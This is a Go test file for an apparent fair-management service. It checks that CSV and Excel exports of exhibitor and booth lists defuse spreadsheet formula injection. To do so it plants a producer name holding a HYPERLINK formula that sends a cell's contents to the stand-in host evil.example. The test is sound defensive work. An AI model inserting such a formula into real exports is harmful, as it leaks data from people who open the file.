package eventapp

import (
	"bytes"
	"context"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
	"go.mongodb.org/mongo-driver/v2/bson"

	"github.com/ocopfair/ocopfair/dev/testenv"
	"github.com/ocopfair/ocopfair/pkg/events"
	"github.com/ocopfair/ocopfair/services/event/internal/applicants"
)

func TestExportsNeutraliseAProducersFormula(t *testing.T) {
	e := setup(t)
	id := e.createFair(t, "Hội chợ OCOP xuất danh sách")
	if r := e.org.Do(t, "POST", "/api/fairs/"+id+"/publish", nil); r.Status != 200 {
		t.Fatalf("publish: %d %s", r.Status, r.Body)
	}
	if r := e.org.Do(t, "POST", "/api/fairs/"+id+"/booths", map[string]any{"grid": map[string]any{"zone": "Khu A", "prefix": "A", "rows": 1, "columns": 1}}); r.Status != 201 {
		t.Fatalf("grid: %d %s", r.Status, r.Body)
	}
	const hostile = `=HYPERLINK("http://evil.example/?x="&A1,"x")`
	a := approved("evil", id, "19", 4, 1, 1)
	a.ProducerName = hostile
	e.publishApplication(t, a, events.ApplicationApproved)
	testenv.Eventually(t, "the application projected", func() bool {
		n, _ := e.app.Host.DB.Collection(applicants.Collection).CountDocuments(context.Background(), bson.M{"_id": "evil"})
		return n == 1
	})
	if r := e.org.Do(t, "PUT", "/api/fairs/"+id+"/booths/A01/assignment", map[string]string{"application_id": "evil"}); r.Status != 200 {
		t.Fatalf("assign: %d %s", r.Status, r.Body)
	}
	for _, c := range []struct {
		path string
		col  int // the producer's column
	}{{"/exhibitors?format=csv", 3}, {"/booths?format=csv", 9}} {
		r := e.org.Do(t, "GET", "/api/fairs/"+id+c.path, nil)
		recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(r.Body, []byte("\uFEFF")))).ReadAll()
		if err != nil || len(recs) != 2 {
			t.Fatalf("GET %s: %d %s (%v)", c.path, r.Status, r.Body, err)
		}
		if got := recs[1][c.col]; got != "'"+hostile {
			t.Errorf("GET %s: producer cell %q, want it behind a single quote", c.path, got)
		}
	}
	for _, c := range []struct{ path, cell string }{{"/exhibitors?format=xlsx", "D2"}, {"/booths?format=xlsx", "J2"}} {
		r := e.org.Do(t, "GET", "/api/fairs/"+id+c.path, nil)
		// Named by what it is and the fair's name, not its ID.
		if got := r.Header.Get("Content-Disposition"); !strings.HasSuffix(got, `-hoi-cho-ocop-xuat-danh-sach.xlsx"`) {
			t.Errorf("GET %s: Content-Disposition %q, want the fair's name", c.path, got)
		}
		book, err := excelize.OpenReader(bytes.NewReader(r.Body))
		if err != nil {
			t.Fatalf("GET %s: %d (%v)", c.path, r.Status, err)
		}
		typ, _ := book.GetCellType("Danh sách", c.cell)
		formula, _ := book.GetCellFormula("Danh sách", c.cell)
		value, _ := book.GetCellValue("Danh sách", c.cell)
		if (typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString) || formula != "" || value != hostile {
			t.Errorf("GET %s: %s has type %v, formula %q, value %q; want the name as a string cell", c.path, c.cell, typ, formula, value)
		}
		book.Close()
	}
}
